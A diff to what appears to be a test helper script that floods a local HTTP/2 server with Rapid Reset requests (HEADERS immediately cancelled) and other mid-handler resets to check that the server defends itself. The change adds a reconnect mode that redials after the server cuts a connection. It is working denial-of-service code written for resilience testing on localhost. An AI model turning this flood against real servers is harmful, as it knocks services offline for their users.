@@ -3,8 +3,9 @@
  * (so the victim's latency is the server's, not the test process's). Two modes, each opening CONNECTIONS
  * connections and sending STREAMS requests on each; prints `started` once under way, then `sent N cut C`
  * when done (C: connections the server closed):
- * - `rapid-reset PORT CONNECTIONS STREAMS`: each request is HEADERS immediately followed by
- *   RST_STREAM(CANCEL);
+ * - `rapid-reset PORT CONNECTIONS STREAMS [reconnect]`: each request is HEADERS immediately followed by
+ *   RST_STREAM(CANCEL); with `reconnect`, a connection the server cut is dialled again until STREAMS were
+ *   sent on that slot (Deno.serve cuts a connection after about 100 resets);
  * - `reset-mid-handler PORT CONNECTIONS STREAMS`: requests whose handler is still running when they are
  *   reset (RST_STREAM(CANCEL) 0–4 ms after a partial body, in batches of 16): Connect unary and server
  *   streaming, gRPC-Web, gRPC, HTTP cache PUT (partial body), GET and HEAD, `/metrics`, `/status`.
@@ -18,48 +19,56 @@
  */
 import http2 from "node:http2";
 
-const [mode, portText, connText, streamsText] = Deno.args;
+const [mode, portText, connText, streamsText, option] = Deno.args;
+const reconnect = option === "reconnect";
 if (mode !== "rapid-reset" && mode !== "reset-mid-handler") throw new Error(`unknown mode ${mode}`);
 const port = Number(portText);
 let sent = 0;
 let cut = 0;
 let announced = false;
 
+/** One connection slot of `rapid-reset`; with `reconnect`, dials again when the server cuts it. */
 async function attack(): Promise<void> {
-  const s = http2.connect(`http://127.0.0.1:${port}`);
-  s.on("error", () => {});
-  let closed = false;
-  s.once("close", () => closed = true);
-  s.once("goaway", () => closed = true);
-  await new Promise<void>((resolve) => {
-    s.once("connect", () => resolve());
-    s.once("close", () => resolve());
-  });
-  for (let i = 0; i < Number(streamsText); i++) {
-    if (closed || s.destroyed || s.closed) break;
-    try {
-      const st = s.request({
-        ":method": "POST",
-        ":path": "/build.bazel.remote.execution.v2.Capabilities/GetCapabilities",
-        "content-type": "application/grpc",
-      });
-      st.on("error", () => {});
-      st.close(http2.constants.NGHTTP2_CANCEL);
-      sent++;
-    } catch {
-      break; // the server sent GOAWAY
+  const total = Number(streamsText);
+  let mine = 0;
+  for (let round = 0; mine < total && round < (reconnect ? 100 : 1); round++) {
+    const s = http2.connect(`http://127.0.0.1:${port}`);
+    s.on("error", () => {});
+    let closed = false;
+    s.once("close", () => closed = true);
+    s.once("goaway", () => closed = true);
+    await new Promise<void>((resolve) => {
+      s.once("connect", () => resolve());
+      s.once("close", () => resolve());
+    });
+    for (let i = 0; mine < total; i++) {
+      if (closed || s.destroyed || s.closed) break;
+      try {
+        const st = s.request({
+          ":method": "POST",
+          ":path": "/build.bazel.remote.execution.v2.Capabilities/GetCapabilities",
+          "content-type": "application/grpc",
+        });
+        st.on("error", () => {});
+        st.close(http2.constants.NGHTTP2_CANCEL);
+        sent++;
+        mine++;
+      } catch {
+        break; // the server sent GOAWAY
+      }
+      if (!announced && sent >= 200) {
+        announced = true;
+        console.log("started");
+      }
+      if (i % 50 === 49) await new Promise((r) => setTimeout(r, 0));
     }
-    if (!announced && sent >= 200) {
-      announced = true;
-      console.log("started");
-    }
-    if (i % 50 === 49) await new Promise((r) => setTimeout(r, 0));
+    // A server defending itself closes the connection (GOAWAY, then close) soon after the flood.
+    const until = Date.now() + 5000;
+    while (!closed && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
+    if (closed) cut++;
+    s.destroy();
+    if (!closed) break;
   }
-  // A server defending itself closes the connection (GOAWAY, then close) soon after the flood.
-  const until = Date.now() + 5000;
-  while (!closed && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
-  if (closed) cut++;
-  s.destroy();
 }
 
 /** The requests of `reset-mid-handler`: headers and the part of a body sent before the reset. */
